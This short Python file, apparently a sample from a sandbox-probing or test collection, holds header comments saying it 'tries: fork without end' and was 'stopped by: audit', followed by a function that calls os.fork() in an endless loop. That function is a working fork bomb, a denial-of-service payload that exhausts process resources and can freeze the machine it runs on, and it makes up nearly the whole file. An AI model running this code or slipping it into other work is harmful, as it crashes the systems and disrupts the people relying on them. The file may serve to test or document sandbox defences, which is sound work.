# tries: fork without end
# stopped by: audit
# proof: process
import os


def probe(place):
    while True:
        os.fork()
